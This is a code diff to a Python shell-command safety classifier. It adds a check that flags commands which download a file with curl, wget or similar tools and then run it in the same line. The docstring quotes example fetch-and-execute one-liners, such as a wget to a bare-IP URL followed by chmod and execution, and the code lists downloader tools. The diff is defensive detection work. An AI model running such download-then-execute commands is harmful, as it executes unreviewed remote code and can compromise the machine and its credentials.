@@ -2885,7 +2885,12 @@ def _cross_checks(
         inner = _classify(each, facts.cwd, env, nesting + 1, prod_ctx)
         if inner.danger_level > DangerLevel.SAFE:
             return _relabel(inner, "compound.stdin-commands", "runs the commands it reads: ", subject)
-    used = _written_then_used(facts, written) if written else None
+    fetched = _downloaded_then_run(facts, written, subject) if written else None
+    if fetched is not None:
+        return fetched
+    _record_download(facts, written)
+    literal = {k: v for k, v in written.items() if not v.startswith(_DOWNLOADED)}
+    used = _written_then_used(facts, literal) if literal else None
     if used is not None:
         equivalent, script = used
         inner = _classify(equivalent, cwd, env, nesting + 1, prod_ctx)
@@ -3157,6 +3162,48 @@ def _as_self_calling(content: str, path: str) -> str:
     for name in sorted(names, key=len, reverse=True):
         body = body.replace(name, "__script_self")
     return f"__script_self() {{\n{body}\n}}; __script_self"
+
+
+# A file this line downloads (`curl -o`, `wget -O`): its content is the network's, unseen. Recorded in
+# the line's written files under this mark, with whether the source is untrusted and the URL.
+_DOWNLOADED = "\0downloaded\0"
+_DOWNLOADERS = frozenset({"curl", "wget", "aria2c", "fetch", "http", "https", "xh", "lwp-download"})
+
+
+def _record_download(facts: Facts, written: dict[str, str]) -> None:
+    if facts.name not in _DOWNLOADERS:
+        return
+    url = next((a for a in facts.inv.args if "://" in a), "")
+    targets = [info.path for info in facts.output_paths if info.path]
+    if url and {"-O", "--remote-name"} & facts.parsed.flags and facts.name == "curl":
+        targets.append(facts.path(posixpath.basename(url.split("?", 1)[0].rstrip("/"))).path)
+    for target in targets:
+        if target and len(written) < 256:
+            written[target] = f"{_DOWNLOADED}{int(_untrusted_fetch(facts))}\0{url}"
+
+
+def _downloaded_then_run(facts: Facts, written: Mapping[str, str], subject: str) -> Assessment | None:
+    """`wget -qO /tmp/.x http://IP/k && chmod +x /tmp/.x && /tmp/.x`, `curl -o i.sh URL; sh i.sh`:
+    a file fetched in this line and then run is code from the network run unseen, as `curl … | sh`
+    is: a pause, and a stop when it comes from a bare IP, a URL shortener or plain http."""
+    script = _script_operand(facts)
+    family = interpreter_family(facts.name)
+    if script is None and family in _INLINE_FLAG and facts.parsed.positionals:
+        script = classify_path(facts.parsed.positionals[0], facts.cwd, facts.home, facts.env).path
+    mark = written.get(script or "", "")
+    if not mark.startswith(_DOWNLOADED):
+        return None
+    untrusted, _, url = mark[len(_DOWNLOADED):].partition("\0")
+    level = DangerLevel.FORBIDDEN if untrusted == "1" else DangerLevel.DESTRUCTIVE
+    return assess(
+        level, kind="command", subject=subject, irreversible=level == DangerLevel.FORBIDDEN,
+        factors=(f"runs {script}, which this line just downloaded ({url[:80] or 'a URL'}): remote code "
+                 "nobody has read [net.download-then-run]",),
+        rules=("net.download-then-run",),
+        safer_alternative="Download the file, read it (and check its checksum or signature), then run "
+        "it as a separate, reviewed step.",
+        recovery="If it ran: treat the machine as compromised; rotate credentials it could read.",
+    )
 
 
 def _script_operand(facts: Facts) -> str | None:
